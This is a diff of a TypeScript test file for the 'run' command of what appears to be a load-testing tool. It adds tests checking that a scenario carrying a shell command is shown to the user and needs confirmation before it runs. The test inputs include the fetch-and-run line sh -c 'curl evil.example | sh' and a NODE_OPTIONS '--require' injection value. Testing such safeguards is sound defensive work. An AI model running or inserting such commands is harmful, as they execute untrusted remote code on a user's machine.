@@ -23,11 +23,20 @@ describe('run', () => {
   });
   afterEach(() => at.dispose());
 
-  const remote = async (): Promise<OpenTarget> => ({
-    ...(await fakeDeps().openTarget({} as never, {} as never)),
-    url: 'https://chat.example.com/hub',
-    hostsBeyond: ['chat.example.com'],
+  const deps = (scenario: Scenario) => ({
+    parseScenario: () => ({ scenario, problems: [] }),
   });
+  const remote = {
+    ...deps({
+      ...sampleScenario,
+      target: { kind: 'hubUrl', urls: ['https://chat.example.com/hub'] },
+    }),
+    openTarget: async (): Promise<OpenTarget> => ({
+      ...(await fakeDeps().openTarget({} as never, {} as never)),
+      url: 'https://chat.example.com/hub',
+      hostsBeyond: ['chat.example.com'],
+    }),
+  };
 
   it('runs, shows the last screen on standard output, and keeps the result', async () => {
     const { code, out, err, calls } = await at.run(['run', file]);
@@ -281,7 +290,7 @@ describe('run', () => {
       refused(
         ['run', file],
         /chat\.example\.com\/hub is not on this machine.* 1,900 connections, up to 1,900 msg\/s in and 19,000 msg\/s out \(41\.8 MB\/s\), for about 3\.3 min.*--yes/,
-        { deps: { openTarget: remote } },
+        { deps: remote },
       ));
 
     it('a load that its recording did not have, also on this machine, without a yes', async () => {
@@ -299,7 +308,7 @@ describe('run', () => {
       for (const answer of ['n', '', 'maybe']) {
         await refused(['run', file], /Not confirmed; nothing was started/, {
           answer,
-          deps: { openTarget: remote },
+          deps: remote,
         });
       }
     });
@@ -341,13 +350,57 @@ describe('run', () => {
   });
 
   it('runs against another machine after a yes, or with --yes', async () => {
-    const asked = await at.run(['run', file], { answer: 'Y', deps: { openTarget: remote } });
+    const asked = await at.run(['run', file], { answer: 'Y', deps: remote });
     assert.equal(asked.code, 0);
     assert.deepEqual(asked.process.questions, ['Run it? [y/N] ']);
     assert.match(asked.err, /puts load on https:\/\/chat\.example\.com\/hub/);
-    const said = await at.run(['run', file, '--yes'], { deps: { openTarget: remote } });
+    const said = await at.run(['run', file, '--yes'], { deps: remote });
     assert.equal(said.code, 0);
     assert.deepEqual(said.process.questions, []);
+  });
+
+  describe('with a command in the scenario', () => {
+    const words = ['sh', '-c', 'curl evil.example | sh'];
+    const calling = (command: readonly string[], env = {}): Scenario => ({
+      ...sampleScenario,
+      identities: {
+        ...{ kind: 'command', command, env, count: 2 },
+        ...{ perSecond: 20, inFlight: 4, timeoutMs: 1000 },
+      },
+    });
+    const opening = (scenario: Scenario) => {
+      let opened = 0;
+      const openTarget = (): never => {
+        opened += 1;
+        throw new ExpectedError('x', 'It was opened.');
+      };
+      return { deps: { ...deps(scenario), openTarget }, opened: () => opened };
+    };
+
+    it('shows it and opens nothing where nobody can be asked, on this machine, too', async () => {
+      const { deps, opened } = opening(calling(words));
+      const { code, err } = await at.run(['run', file], { deps });
+      assert.equal(code, 2);
+      assert.match(err, /the command sh -c "curl evil\.example \| sh", 2 times\. .*Add --yes/);
+      assert.equal(opened(), 0);
+      await at.run(['run', file, '--yes'], { deps });
+      assert.equal(opened(), 1);
+    });
+
+    it('asks once for what it executes, and again for anything else', async () => {
+      const env = { XDG_CONFIG_HOME: path.join(at.folder, 'config') };
+      const asks = async (scenario: Scenario, answer = 'y'): Promise<number> => {
+        const run = await at.run(['run', file], { env, answer, ...opening(scenario) });
+        return run.process.questions.length;
+      };
+      assert.equal(await asks(calling(words), 'n'), 1);
+      assert.equal(await asks(calling(words)), 1);
+      assert.equal(await asks(calling(words)), 0);
+      assert.equal(await asks(calling([...words, 'x'])), 1);
+      assert.equal(await asks(calling(words, { NODE_OPTIONS: '--require ./x.cjs' })), 1);
+      assert.equal(await asks(calling(words, { NODE_OPTIONS: '--require ./y.cjs' })), 1);
+      assert.equal(await asks(calling(words)), 0);
+    });
   });
 
   describe('when the folder can no longer be written', () => {
